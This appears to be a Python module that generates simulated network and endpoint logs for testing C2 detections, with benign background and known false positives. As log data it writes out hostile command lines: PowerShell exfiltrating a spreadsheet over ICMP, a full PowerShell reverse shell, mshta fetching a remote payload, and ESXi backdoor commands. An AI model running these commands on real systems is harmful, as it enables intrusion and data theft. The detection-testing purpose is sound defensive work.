"""The reference test scenarios, benign background and documented false positives.

Each scenario function fills a :class:`~c2hunt_sim.world.Recorder` with what the sensors on
a small corporate network (10.20.0.0/16; DNS 10.20.0.53, NTP 10.20.0.123, files 10.20.0.20,
gateway 10.20.0.1) log while it happens. Attacker infrastructure uses the documentation
ranges 203.0.113.0/24 and 198.51.100.0/24.

The five reference tests of the T1095 Sysmon detection:

1. ``s1_icmp_large_payload_powershell`` — PowerShell sends 1,400-byte ICMP echo payloads.
2. ``s2_powershell_socks5_tor`` — PowerShell speaks SOCKS5 to Tor on 127.0.0.1:9050.
3. ``s3_python_udp_beacon`` — python sends 20 UDP datagrams to 8.8.8.8:4444, 5 s apart.
4. ``s4_ptunnel_ng_icmp_tunnel`` — ptunnel-ng on Linux: raw ICMP socket, 64-byte payloads
   at 2 packets/s for 10 minutes.
5. ``s5_ncat_socks_tor`` — ncat through Tor's SOCKS port 127.0.0.1:9050 (Windows and Linux).

Beyond them: ``benign_background`` (must raise nothing), ``false_positives`` (the
reference's known false positives, each suppressed by a documented allowlist entry), and
``x1_dns_tunnel_doh_smb_egress`` / ``x2_web_c2_unusual_process`` for the application-layer
analytics (AN1228, AN1225).
"""
import collections
import hashlib
import struct

from c2hunt_sim.world import Host, Recorder

BASE_TIME = 1715677200.0  # 2024-05-14 09:00:00 UTC
DEFAULT_SEED = 1095

RESOLVER = "10.20.0.53"
NTP_SERVER = "10.20.0.123"
FILE_SERVER = "10.20.0.20"
GATEWAY = "10.20.0.1"
WEB_PROXY = "10.20.0.8"

SYSTEM = "NT AUTHORITY\\SYSTEM"
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
TOR_EXE = "C:\\Users\\%s\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor\\tor.exe"
TOR_FIREFOX = "C:\\Users\\%s\\Desktop\\Tor Browser\\Browser\\firefox.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"

SCENARIOS = collections.OrderedDict()

# Socket table fields of c2sockets records (what the kernel's tables say about a socket).
RAW_ICMP_SOCKET = {"table": "raw", "transport": "raw", "family": "ipv4", "socket_type": "raw",
                   "local_ip": "0.0.0.0", "local_port": 1, "remote_ip": "0.0.0.0",
                   "remote_port": 0, "state": "close", "ip_protocol": 1,
                   "ip_protocol_name": "icmp"}
ICMP_DATAGRAM_SOCKET = {"table": "icmp", "transport": "icmp", "family": "ipv4",
                        "socket_type": "dgram", "local_ip": "0.0.0.0", "local_port": 3,
                        "remote_ip": "0.0.0.0", "remote_port": 0, "state": "close"}
SNIFFER_SOCKET = {"table": "packet", "transport": "packet", "family": "packet",
                  "socket_type": "raw", "ethertype": "0x0003", "ethertype_name": "all",
                  "interface_index": 2}


def _vsock(state, local_port, remote_cid=-1, remote_port=-1, local_cid=-1):
    """vsock table fields as vsock_diag reports them (-1: VMADDR_CID_ANY / PORT_ANY)."""
    names = {-1: "any", 0: "hypervisor", 1: "local", 2: "host"}
    return {"table": "vsock", "transport": "vsock", "family": "vsock", "socket_type": "stream",
            "state": state, "local_cid": local_cid, "local_cid_name": names.get(local_cid, "guest"),
            "local_port": local_port, "remote_cid": remote_cid,
            "remote_cid_name": names.get(remote_cid, "guest"), "remote_port": remote_port}


def scenario(function):
    """Register a scenario function under its name."""
    SCENARIOS[function.__name__] = function
    return function


def _cmd_parent(rec, host, time, user):
    return rec.windows_process(host, time, CMD, '"C:\\Windows\\system32\\cmd.exe" ', user)


def _tor_listener(rec, host, time, user, client_port, socks_port=9050):
    """Tor's side of a loopback SOCKS connection: Sysmon/WFP log it as inbound."""
    tor = rec.windows_service(TOR_EXE % user.split("\\")[-1],
                              '"%s" -f torrc' % (TOR_EXE % user.split("\\")[-1]), user=user)
    rec.windows_connection(host, tor, time + 0.001, "tcp", "127.0.0.1", socks_port,
                           src="127.0.0.1", src_port=client_port, initiated=False)


@scenario
def s1_icmp_large_payload_powershell(rec, t0):
    host = Host("ws01.corp.example", "10.20.1.11", "windows")
    user = "CORP\\alice"
    parent = _cmd_parent(rec, host, t0 - 4.0, user)
    ps = rec.windows_process(
        host, t0, POWERSHELL,
        "powershell.exe -NoProfile -WindowStyle Hidden -Command \"$p=New-Object "
        "System.Net.NetworkInformation.Ping; $b=[IO.File]::ReadAllBytes('C:\\Users\\alice\\"
        "Documents\\q2.xlsx'); for($i=0;$i -lt $b.Length;$i+=1400){$p.Send('203.0.113.50',"
        "1000,$b[$i..($i+1399)])}\"", user, parent=parent)
    sends = 12
    for beat in range(sends):
        rec.windows_connection(host, ps, t0 + 1.0 + 5.0 * beat + rec.rng.uniform(0, 0.2),
                               "icmp", "203.0.113.50", 0)
    # The tunnel server answers each 1,400-byte request with a 24-byte acknowledgement.
    rec.zeek_conn(t0 + 1.0, host.ip, 8, "203.0.113.50", 0, "icmp", duration=55.3,
                  orig_bytes=1400 * sends, resp_bytes=24 * sends, orig_pkts=sends,
                  resp_pkts=sends)


@scenario
def s2_powershell_socks5_tor(rec, t0):
    host = Host("ws02.corp.example", "10.20.1.12", "windows")
    user = "CORP\\bob"
    parent = _cmd_parent(rec, host, t0 - 3.0, user)
    ps = rec.windows_process(
        host, t0, POWERSHELL,
        "powershell.exe -nop -c \"$c=New-Object Net.Sockets.TcpClient('127.0.0.1',9050);"
        "$s=$c.GetStream();$s.Write([byte[]](5,1,0),0,3);$r=New-Object byte[] 2;"
        "$s.Read($r,0,2)|Out-Null;$h=[Text.Encoding]::ASCII.GetBytes('c2hunttestonion.onion');"
        "$s.Write([byte[]](5,1,0,3,$h.Length)+$h+[byte[]](1,187),0,7+$h.Length)\"",
        user, parent=parent)
    port = rec.windows_connection(host, ps, t0 + 0.8, "tcp", "127.0.0.1", 9050, src="127.0.0.1")
    _tor_listener(rec, host, t0 + 0.8, user, port)


@scenario
def s3_python_udp_beacon(rec, t0):
    host = Host("ws03.corp.example", "10.20.1.13", "windows")
    user = "CORP\\carol"
    python = "C:\\Users\\carol\\AppData\\Local\\Programs\\Python\\Python312\\python.exe"
    parent = _cmd_parent(rec, host, t0 - 5.0, user)
    proc = rec.windows_process(host, t0, python, "python.exe beacon.py 8.8.8.8 4444 --every 5",
                               user, parent=parent)
    for beat in range(20):
        # A new socket per beat: a new source port, so Zeek logs 20 connections.
        rec.windows_connection(host, proc, t0 + 0.5 + 5.0 * beat + rec.rng.uniform(0, 0.05),
                               "udp", "8.8.8.8", 4444,
                               zeek={"orig_bytes": 48, "resp_bytes": 0, "orig_pkts": 1,
                                     "resp_pkts": 0})


@scenario
def s4_ptunnel_ng_icmp_tunnel(rec, t0):
    host = Host("lnx04.corp.example", "10.20.2.14", "linux")
    shell = rec.linux_daemon("/usr/bin/bash", ["-bash"], uid=1000)
    tunnel = rec.linux_exec(host, t0, "/usr/local/bin/ptunnel-ng",
                            ["ptunnel-ng", "-p198.51.100.7", "-l2222", "-r127.0.0.1", "-R22"],
                            uid=0, auid=1000, ppid=shell["pid"])
    rec.linux_socket(host, t0 + 0.04, tunnel, "inet", "raw", "icmp")
    # Where c2sockets runs instead of auditd: the raw ICMP socket in every pass it is held.
    rec.held_socket(host, tunnel, RAW_ICMP_SOCKET, t0 + 30, t0 + 600)
    # 64-byte payloads both ways at 2 packets/s for 10 minutes: one Zeek ICMP connection,
    # and the egress capture. ptunnel-ng's payload: magic 0xdeadc0de, then its header
    # (destination, state, ack, length, sequence), then encrypted SSH bytes; the proxy's
    # replies carry its own data, so replies never mirror requests.
    packets = 1200
    for seq in range(packets):
        when = t0 + 0.05 + 0.5 * seq
        for reply in (False, True):
            header = struct.pack(">IIIIIIHH", 0xDEADC0DE, 0xC6336407, 22,
                                 0x40000002 if reply else 0x40000001, seq, 36, seq, 0x4C1F)
            body = bytes(rec.rng.getrandbits(8) for _ in range(64 - len(header)))
            rec.icmp_echo(when + (0.021 if reply else 0.0), host.ip, "198.51.100.7", 0x4C1F,
                          seq, header + body, reply=reply)
    rec.zeek_conn(t0 + 0.05, host.ip, 8, "198.51.100.7", 0, "icmp", duration=599.6,
                  orig_bytes=64 * packets, resp_bytes=64 * packets, orig_pkts=packets,
                  resp_pkts=packets)


@scenario
def s5_ncat_socks_tor(rec, t0):
    win = Host("ws05.corp.example", "10.20.1.15", "windows")
    user = "CORP\\erin"
    ncat_path = "C:\\Program Files (x86)\\Nmap\\ncat.exe"
    parent = _cmd_parent(rec, win, t0 - 2.0, user)
    ncat = rec.windows_process(
        win, t0, ncat_path, '"%s" --proxy 127.0.0.1:9050 --proxy-type socks5 203.0.113.66 443'
        % ncat_path, user, parent=parent)
    port = rec.windows_connection(win, ncat, t0 + 0.3, "tcp", "127.0.0.1", 9050, src="127.0.0.1")
    _tor_listener(rec, win, t0 + 0.3, user, port)

    lnx = Host("lnx05.corp.example", "10.20.2.15", "linux")
    shell = rec.linux_daemon("/usr/bin/bash", ["-bash"], uid=1001)
    proc = rec.linux_exec(lnx, t0 + 20.0, "/usr/bin/ncat",
                          ["ncat", "--proxy", "127.0.0.1:9050", "--proxy-type", "socks5",
                           "203.0.113.66", "443"], uid=1001, auid=1001, ppid=shell["pid"])
    rec.linux_socket(lnx, t0 + 20.01, proc, "inet", "stream", "tcp")
    rec.linux_connect(lnx, t0 + 20.02, proc, "127.0.0.1", 9050, nonblocking=True)


def _browse(rec, host, proc, start, span, n_tcp, n_quic, destinations):
    """Browser traffic: Poisson TCP/443 connections and QUIC (UDP/443), mirrored by Zeek."""
    for _ in range(n_tcp):
        when = start + rec.rng.uniform(0, span)
        out_bytes = rec.rng.randint(600, 4000)
        rec.windows_connection(host, proc, when, "tcp", rec.rng.choice(destinations), 443,
                               zeek={"service": "ssl", "duration": rec.rng.uniform(0.3, 40.0),
                                     "orig_bytes": out_bytes,
                                     "resp_bytes": out_bytes * rec.rng.randint(4, 60)})
    for _ in range(n_quic):
        when = start + rec.rng.uniform(0, span)
        out_bytes = rec.rng.randint(2000, 9000)
        rec.windows_connection(host, proc, when, "udp", rec.rng.choice(destinations), 443,
                               zeek={"service": "quic", "duration": rec.rng.uniform(1.0, 30.0),
                                     "orig_bytes": out_bytes,
                                     "resp_bytes": out_bytes * rec.rng.randint(3, 30)})


@scenario
def benign_background(rec, t0):
    span = 1800.0
    cdn = ["142.250.74.110", "142.250.185.206", "151.101.1.69", "104.16.132.229",
           "13.107.42.14", "23.45.67.89", "52.84.150.11", "1.1.1.1"]
    ws = Host("ws20.corp.example", "10.20.1.20", "windows")
    user = "CORP\\dave"
    chrome = rec.windows_process(ws, t0, CHROME, '"%s" --profile-directory=Default' % CHROME,
                                 user)
    _browse(rec, ws, chrome, t0, span, 40, 10, cdn)
    edge = rec.windows_process(ws, t0 + 300, EDGE, '"%s" --single-argument' % EDGE, user)
    _browse(rec, ws, edge, t0 + 300, span - 300, 15, 0, cdn)

    dnscache = rec.windows_service(SVCHOST, "C:\\Windows\\system32\\svchost.exe -k "
                                   "NetworkService -p -s Dnscache", user="NT AUTHORITY\\NETWORK SERVICE")
    names = ["www.google.com", "outlook.office365.com", "teams.microsoft.com",
             "login.microsoftonline.com", "github.com", "update.googleapis.com",
             "zoom.us", "www.wikipedia.org", "cdn.jsdelivr.net", "slack.com",
             "ctldl.windowsupdate.com", "fonts.gstatic.com"]
    for i in range(30):
        when = t0 + rec.rng.uniform(0, span)
        name = rec.rng.choice(names)
        port = rec.windows_connection(ws, dnscache, when, "udp", RESOLVER, 53,
                                      zeek={"service": "dns", "duration": 0.012,
                                            "orig_bytes": 30 + len(name),
                                            "resp_bytes": 46 + len(name) + 16 * (i % 3)})
        rec.zeek_dns(when, ws.ip, RESOLVER, name, "A" if i % 4 else "AAAA",
                     answers=["142.250.74.%d" % (i + 10)], orig_p=port)

    w32time = rec.windows_service(SVCHOST, "C:\\Windows\\system32\\svchost.exe -k "
                                  "LocalService -s W32Time", user="NT AUTHORITY\\LOCAL SERVICE")
    for when in (t0 + 120.0, t0 + 1020.0):
        rec.windows_connection(ws, w32time, when, "udp", NTP_SERVER, 123, src_port=123,
                               zeek={"service": "ntp", "duration": 0.004, "orig_bytes": 48,
                                     "resp_bytes": 48})

    wuauserv = rec.windows_service(SVCHOST, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p "
                                   "-s wuauserv")
    for i in range(4):
        rec.windows_connection(ws, wuauserv, t0 + 600 + 30 * i, "tcp", "13.107.4.50", 443,
                               zeek={"service": "ssl", "duration": 25.0,
                                     "orig_bytes": 3000, "resp_bytes": 48000000})
    delivery = rec.windows_service(SVCHOST, "C:\\Windows\\System32\\svchost.exe -k "
                                   "NetworkService -p -s DoSvc", user="NT AUTHORITY\\NETWORK SERVICE")
    rec.windows_connection(ws, delivery, t0 + 640, "udp", "239.255.255.250", 1900)

    teams = rec.windows_process(ws, t0 + 60, "C:\\Program Files\\WindowsApps\\MSTeams_24091."
                                "214.2846.1452_x64__8wekyb3d8bbwe\\ms-teams.exe",
                                "ms-teams.exe", user)
    for port in (3478, 3479, 3480, 3481):
        rec.windows_connection(ws, teams, t0 + 900 + port % 10, "udp", "52.113.194.132", port,
                               zeek={"duration": 1500.0, "orig_bytes": 9000000,
                                     "resp_bytes": 11000000})
    zoom = rec.windows_process(ws, t0 + 200, "C:\\Users\\dave\\AppData\\Roaming\\Zoom\\bin\\"
                               "Zoom.exe", '"C:\\Users\\dave\\AppData\\Roaming\\Zoom\\bin\\'
                               'Zoom.exe"', user)
    for port in (8801, 8802):
        rec.windows_connection(ws, zoom, t0 + 1200 + port % 10, "udp", "144.195.36.10", port,
                               zeek={"duration": 400.0, "orig_bytes": 3000000,
                                     "resp_bytes": 4500000})

    ping_parent = _cmd_parent(rec, ws, t0 + 700, user)
    ping = rec.windows_process(ws, t0 + 705, "C:\\Windows\\System32\\PING.EXE",
                               "ping  10.20.0.1", user, parent=ping_parent)
    for echo in range(4):
        rec.windows_connection(ws, ping, t0 + 705.1 + echo, "icmp", GATEWAY, 0)
    rec.zeek_conn(t0 + 705.1, ws.ip, 8, GATEWAY, 0, "icmp", duration=3.01, orig_bytes=128,
                  resp_bytes=128, orig_pkts=4, resp_pkts=4)

    system = rec.windows_service("System", "", pid=4)
    rec.windows_connection(ws, system, t0 + 30, "udp", "10.20.1.255", 137, src_port=137)
    rec.windows_connection(ws, system, t0 + 31, "udp", "10.20.1.255", 138, src_port=138)
    rec.windows_connection(ws, system, t0 + 400, "tcp", FILE_SERVER, 445,
                           zeek={"service": "smb", "duration": 600.0, "orig_bytes": 250000,
                                 "resp_bytes": 8000000})
    lsass = rec.windows_service("C:\\Windows\\System32\\lsass.exe",
                                "C:\\Windows\\system32\\lsass.exe")
    rec.windows_connection(ws, lsass, t0 + 35, "udp", "10.20.0.10", 88)
    llmnr = rec.windows_service(SVCHOST, "C:\\Windows\\system32\\svchost.exe -k "
                                "NetworkService -p -s Dnscache", user="NT AUTHORITY\\NETWORK SERVICE")
    rec.windows_connection(ws, llmnr, t0 + 36, "udp", "224.0.0.252", 5355)
    rec.windows_connection(ws, llmnr, t0 + 37, "udp", "224.0.0.251", 5353, src_port=5353)

    # Tor Browser: its firefox talks SOCKS to its own tor.exe on 9150 (allowlisted browser).
    tor_user = "dave"
    tor_fx = rec.windows_process(ws, t0 + 1500, TOR_FIREFOX % tor_user,
                                 '"%s"' % (TOR_FIREFOX % tor_user), user)
    tor = rec.windows_process(ws, t0 + 1501, TOR_EXE % tor_user, '"%s" -f torrc' %
                              (TOR_EXE % tor_user), user, parent=tor_fx)
    rec.windows_connection(ws, tor, t0 + 1503, "tcp", "185.220.101.4", 443,
                           zeek={"service": "ssl", "duration": 290.0, "orig_bytes": 90000,
                                 "resp_bytes": 2500000})
    for i in range(3):
        rec.windows_connection(ws, tor_fx, t0 + 1510 + 7 * i, "tcp", "127.0.0.1", 9150,
                               src="127.0.0.1")

    # The web proxy on 8080 and plain HTTP to a package mirror.
    rec.zeek_conn(t0 + 50, ws.ip, 50511, WEB_PROXY, 8080, "tcp", service="http", duration=2.0,
                  orig_bytes=900, resp_bytes=45000)

    # Linux server: ping, chrony, curl, package updates, tcpdump.
    lnx = Host("lnx20.corp.example", "10.20.2.20", "linux")
    ping = rec.linux_exec(lnx, t0 + 100, "/usr/bin/ping", ["ping", "-c", "3", GATEWAY],
                          uid=1000, auid=1000)
    rec.linux_socket(lnx, t0 + 100.01, ping, "inet", "dgram", "icmp")
    rec.held_socket(lnx, ping, ICMP_DATAGRAM_SOCKET, t0 + 101, t0 + 101,
                    package="iputils-ping")
    rec.zeek_conn(t0 + 100.02, lnx.ip, 8, GATEWAY, 0, "icmp", duration=2.0, orig_bytes=168,
                  resp_bytes=168, orig_pkts=3, resp_pkts=3)
    chrony = rec.linux_daemon("/usr/sbin/chronyd", ["/usr/sbin/chronyd", "-F", "1"], uid=0)
    rec.linux_socket(lnx, t0 + 5, chrony, "inet", "dgram", "udp")
    for i in range(28):  # chrony polls its pool server every 64 s: periodic, but NTP.
        rec.zeek_conn(t0 + 5 + 64.0 * i + rec.rng.uniform(0, 0.01), lnx.ip, 123,
                      "162.159.200.1", 123, "udp", service="ntp", duration=0.02,
                      orig_bytes=48, resp_bytes=48)
    curl = rec.linux_exec(lnx, t0 + 300, "/usr/bin/curl",
                          ["curl", "-fsSL", "https://example.org/"], uid=1000, auid=1000)
    rec.linux_socket(lnx, t0 + 300.01, curl, "inet", "stream", "tcp")
    rec.linux_connect(lnx, t0 + 300.02, curl, "93.184.216.34", 443)
    rec.zeek_conn(t0 + 300.02, lnx.ip, 41822, "93.184.216.34", 443, "tcp", service="ssl",
                  duration=0.4, orig_bytes=700, resp_bytes=3200)
    apt = rec.linux_exec(lnx, t0 + 900, "/usr/lib/apt/methods/http", ["/usr/lib/apt/methods/http"],
                         uid=42, auid=4294967295)
    rec.linux_connect(lnx, t0 + 900.02, apt, "151.101.2.132", 80)
    rec.zeek_conn(t0 + 900.02, lnx.ip, 41900, "151.101.2.132", 80, "tcp", service="http",
                  duration=6.0, orig_bytes=1500, resp_bytes=9000000)
    tcpdump = rec.linux_exec(lnx, t0 + 1200, "/usr/bin/tcpdump",
                             ["tcpdump", "-i", "eth0", "-w", "/tmp/cap.pcap"], uid=0, auid=1000)
    rec.linux_socket(lnx, t0 + 1200.01, tcpdump, "packet", "raw", "eth_p_all")
    rec.held_socket(lnx, tcpdump, SNIFFER_SOCKET, t0 + 1230, t0 + 1800, package="tcpdump")
    # A VMware guest: VMware Tools' own vsock connection to the ESXi host (context id 2).
    tools = rec.linux_daemon("/usr/bin/vmtoolsd", ["/usr/bin/vmtoolsd"], uid=0)
    rec.held_socket(lnx, tools, _vsock("established", 976, 2, 976, local_cid=1057), t0 + 30,
                    t0 + 1800, package="open-vm-tools")
    for i in range(8):
        name = rec.rng.choice(["deb.debian.org", "security.debian.org", "example.org",
                               "pool.ntp.org"])
        rec.zeek_dns(t0 + 90 + 140 * i, lnx.ip, RESOLVER, name, "A",
                     answers=["151.101.2.%d" % (130 + i)])


@scenario
def false_positives(rec, t0):
    """The reference's known false positives: a vulnerability scanner, an ICMP network
    monitor, and a VPN client on a custom UDP port."""
    span = 1800.0
    scanner = Host("scan01.corp.example", "10.20.5.10", "windows")
    nessus = rec.windows_service("C:\\Program Files\\Tenable\\Nessus\\nessusd.exe",
                                 '"C:\\Program Files\\Tenable\\Nessus\\nessusd.exe"')
    for i in range(1, 31):
        target = "10.20.1.%d" % i
        when = t0 + 2.0 * i
        rec.windows_connection(scanner, nessus, when, "icmp", target, 0,
                               zeek={"duration": 0.001, "orig_bytes": 32, "resp_bytes": 32,
                                     "orig_pkts": 1, "resp_pkts": 1})
        for port in (161, 137, 1900):
            rec.windows_connection(scanner, nessus, when + 0.2 + port / 10000.0, "udp",
                                   target, port, zeek={"orig_bytes": 40, "resp_bytes": 0})

    monitor = Host("mon01.corp.example", "10.20.5.11", "windows")
    prtg = rec.windows_service("C:\\Program Files (x86)\\PRTG Network Monitor\\PRTG Probe.exe",
                               '"C:\\Program Files (x86)\\PRTG Network Monitor\\PRTG Probe.exe"')
    for i in range(30):
        rec.windows_connection(monitor, prtg, t0 + 10 + 60.0 * i, "icmp", GATEWAY, 0,
                               zeek={"duration": 0.0009, "orig_bytes": 32, "resp_bytes": 32,
                                     "orig_pkts": 1, "resp_pkts": 1})

    laptop = Host("lt07.corp.example", "10.20.3.7", "windows")
    openvpn = rec.windows_service("C:\\Program Files\\OpenVPN\\bin\\openvpn.exe",
                                  '"C:\\Program Files\\OpenVPN\\bin\\openvpn.exe" --config '
                                  'corp.ovpn', user="CORP\\frank")
    rec.windows_connection(laptop, openvpn, t0 + 15, "udp", "198.51.100.20", 1195,
                           zeek={"duration": span - 20, "orig_bytes": 2400000,
                                 "resp_bytes": 31000000})


@scenario
def x1_dns_tunnel_doh_smb_egress(rec, t0):
    """dnscat2-style DNS tunnel, DNS-over-HTTPS from a non-browser, SMB to the internet."""
    host = Host("ws06.corp.example", "10.20.1.16", "windows")
    user = "CORP\\grace"
    for i in range(150):
        label = "".join(rec.rng.choice("0123456789abcdef") for _ in range(56))
        qtype = ("TXT", "CNAME", "MX")[i % 3]
        rec.zeek_dns(t0 + 4.0 * i + rec.rng.uniform(0, 1.0), host.ip, RESOLVER,
                     "%s.%s.cdn-sync.example-c2.net" % (label[:28], label[28:]), qtype,
                     answers=["%s.cdn-sync.example-c2.net" % label[:40]] if qtype != "TXT"
                     else [label[:48]], ttl=0.0)
    updater = rec.windows_process(host, t0 + 30,
                                  "C:\\Users\\grace\\AppData\\Local\\Temp\\msupdate.exe",
                                  "msupdate.exe /silent", user)
    for i in range(3):
        rec.windows_connection(host, updater, t0 + 40 + 300 * i, "tcp", "1.1.1.1", 443,
                               zeek={"service": "ssl", "duration": 2.0, "orig_bytes": 1300,
                                     "resp_bytes": 5200})
    system = rec.windows_service("System", "", pid=4)
    rec.windows_connection(host, system, t0 + 500, "tcp", "198.51.100.99", 445,
                           zeek={"service": "smb", "duration": 12.0, "orig_bytes": 4200,
                                 "resp_bytes": 3100})


@scenario
def x2_web_c2_unusual_process(rec, t0):
    """rundll32 posting data over HTTPS and HTTP on an irregular port."""
    host = Host("ws07.corp.example", "10.20.1.17", "windows")
    user = "CORP\\heidi"
    rundll = rec.windows_process(
        host, t0, "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Users\\heidi\\AppData\\Roaming\\sync.dll,DllRegisterServer", user)
    for i in range(6):
        rec.windows_connection(host, rundll, t0 + 10 + 97.0 * i, "tcp", "203.0.113.80", 443,
                               zeek={"service": "ssl", "duration": 3.0,
                                     "orig_bytes": 250000, "resp_bytes": 4000})
    mshta = rec.windows_process(host, t0 + 700, "C:\\Windows\\System32\\mshta.exe",
                                "mshta.exe http://203.0.113.81:8081/a.hta", user)
    rec.windows_connection(host, mshta, t0 + 701, "tcp", "203.0.113.81", 8081,
                           zeek={"service": "http", "duration": 1.0, "orig_bytes": 400,
                                 "resp_bytes": 38000})



@scenario
def x3_raw_tcp_reverse_shells(rec, t0):
    """Raw TCP C2 (AN1254): a PowerShell reverse shell and a Meterpreter DLL run by rundll32,
    each holding one long TCP session to a port no application protocol uses."""
    host = Host("ws08.corp.example", "10.20.1.18", "windows")
    user = "CORP\\ivan"
    parent = _cmd_parent(rec, host, t0 - 2.0, user)
    shell = rec.windows_process(
        host, t0, POWERSHELL,
        "powershell.exe -nop -w hidden -c \"$c=New-Object Net.Sockets.TCPClient('203.0.113.90',"
        "4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length))"
        " -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|"
        "Out-String);$s.Write([Text.Encoding]::ASCII.GetBytes($r),0,$r.Length)}\"",
        user, parent=parent)
    rec.windows_connection(host, shell, t0 + 0.6, "tcp", "203.0.113.90", 4444,
                           zeek={"duration": 1450.0, "orig_bytes": 182000, "resp_bytes": 9400})
    dll = rec.windows_process(
        host, t0 + 300, "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Users\\ivan\\AppData\\Local\\Temp\\upd.dll,Start", user,
        parent=parent)
    rec.windows_connection(host, dll, t0 + 301.2, "tcp", "198.51.100.45", 31337,
                           zeek={"duration": 1100.0, "orig_bytes": 96000, "resp_bytes": 240000})


@scenario
def benign_raw_tcp_admin(rec, t0):
    """Scripting engines on TCP the way admins and developers use them: what a naive
    "PowerShell/Python on TCP" rule would raise and the raw TCP signal must not. WinRM
    remoting (5985), WMI over DCOM (135, then a dynamic RPC port on the server), SQL, a
    Python debugger and dev server on loopback, pip over HTTPS. Internal traffic does not
    cross the egress Zeek sensor; pip's does."""
    ws = Host("adm21.corp.example", "10.20.1.21", "windows")
    user = "CORP\\judy"
    parent = _cmd_parent(rec, ws, t0, user)
    remoting = rec.windows_process(ws, t0 + 5, POWERSHELL,
                                   "powershell.exe -NoExit -Command Enter-PSSession -ComputerName "
                                   "app01.corp.example", user, parent=parent)
    rec.windows_connection(ws, remoting, t0 + 6, "tcp", "10.20.0.30", 5985)
    wmi = rec.windows_process(ws, t0 + 60, POWERSHELL,
                              "powershell.exe -Command \"Get-WmiObject Win32_OperatingSystem "
                              "-ComputerName dc01.corp.example\"", user, parent=parent)
    rec.windows_connection(ws, wmi, t0 + 61, "tcp", "10.20.0.10", 135)
    rec.windows_connection(ws, wmi, t0 + 61.2, "tcp", "10.20.0.10", 49702)
    sql = rec.windows_process(ws, t0 + 120, POWERSHELL,
                              "powershell.exe -Command \"Invoke-Sqlcmd -ServerInstance sql01 "
                              "-Query 'SELECT @@VERSION'\"", user, parent=parent)
    rec.windows_connection(ws, sql, t0 + 121, "tcp", "10.20.0.40", 1433)
    python = "C:\\Users\\judy\\AppData\\Local\\Programs\\Python\\Python312\\python.exe"
    server = rec.windows_process(ws, t0 + 200, python, "python.exe -m http.server 8000", user,
                                 parent=parent)
    client = rec.windows_process(ws, t0 + 230, python,
                                 "python.exe -m debugpy --connect 127.0.0.1:5678 app.py", user,
                                 parent=parent)
    rec.windows_connection(ws, client, t0 + 231, "tcp", "127.0.0.1", 5678, src="127.0.0.1")
    port = rec.windows_connection(ws, client, t0 + 240, "tcp", "127.0.0.1", 8000,
                                  src="127.0.0.1")
    rec.windows_connection(ws, server, t0 + 240.001, "tcp", "127.0.0.1", 8000,
                           src="127.0.0.1", src_port=port, initiated=False)
    pip = rec.windows_process(ws, t0 + 400, python, "python.exe -m pip install requests", user,
                              parent=parent)
    rec.windows_connection(ws, pip, t0 + 401, "tcp", "151.101.0.223", 443,
                           zeek={"service": "ssl", "duration": 2.5, "orig_bytes": 2100,
                                 "resp_bytes": 640000})


VMTOOLSD = "C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe"


def _vmtoolsd(rec):
    """VMware Tools' service in a Windows guest: the parent of guest-operation programs."""
    return dict(rec.windows_service(VMTOOLSD, '"%s"' % VMTOOLSD), user=SYSTEM)


def _guest_op_events(rec, esx, start, vm, operations, sid=None, user=None, vpxa_user=None):
    """hostd's event line (and, when vCenter drives it, vpxa's LRO line) per guest operation."""
    methods = {"Start Program": "ProcessManager.startProgram",
               "List Processes": "ProcessManager.listProcesses",
               "Initiate File Transfer To Guest": "FileManager.initiateFileTransferToGuest",
               "Initiate File Transfer From Guest": "FileManager.initiateFileTransferFromGuest",
               "Create Temporary File": "FileManager.createTemporaryFile",
               "Delete File": "FileManager.deleteFile"}
    when = start
    for i, operation in enumerate(operations):
        op_id = "%08x" % rec.rng.getrandbits(32)
        if vpxa_user is not None:
            manager = "guestOperations" + methods[operation].split(".")[0]
            rec.esxi_log(esx, when - 0.05, "Vpxa", 2101003,
                         "[Originator@6876 sub=vpxLro opID=%s] [VpxLRO] -- BEGIN lro-%d -- %s -- "
                         "vim.vm.guest.%s -- 52b1c0de-%04x(%s)"
                         % (op_id, 880100 + i, manager, methods[operation], i, vpxa_user))
        rec.hostd(esx, when, "Event %d : Guest operation %s performed on Virtual machine %s."
                  % (400 + i, operation, vm), "Vimsvc.ha-eventmgr", op_id=op_id, sid=sid, user=user)
        when += rec.rng.uniform(0.4, 3.0)
    return when


@scenario
def x4_esxi_vmci_guest_ops(rec, t0):
    """ESXi channels (AN1257): harvested vpxuser credentials used straight against hostd for
    guest operations (list, run, copy in and out of fin-db01: UNC3886's use of VMCI-borne
    Guest Operations), a VIRTUALPITA/VIRTUALPIE-style backdoor started from /tmp and from a
    datastore in the ESXi Shell, and in the guest the programs VMware Tools ran."""
    esx = Host("esx01.corp.example", "10.20.9.11", "esxi")
    sid = "52a9c31e"
    login = "%08x" % rec.rng.getrandbits(32)
    rec.hostd(esx, t0, "Accepted password for user vpxuser from 198.51.100.61 - session=%s-"
              "77d2-3a51-0c6e-9f1b2d3c4e5f" % sid, "Vimsvc.HaSessionManager", op_id=login, sid=sid)
    rec.hostd(esx, t0 + 0.01, "Event 301 : User vpxuser@198.51.100.61 logged in as pyvmomi "
              "Python/3.10.12 (Linux; 5.15.0-91-generic; x86_64)", "Vimsvc.ha-eventmgr",
              op_id=login, sid=sid)
    ops = ["List Processes", "Initiate File Transfer To Guest", "Start Program", "List Processes",
           "Start Program", "Initiate File Transfer From Guest", "Delete File"]
    _guest_op_events(rec, esx, t0 + 20, "fin-db01", ops, sid=sid)
    rec.esxi_shell(esx, t0 + 600, "root", "chmod +x /tmp/vmtoolsd")
    rec.esxi_shell(esx, t0 + 602, "root", "/tmp/vmtoolsd -p 18098 &")
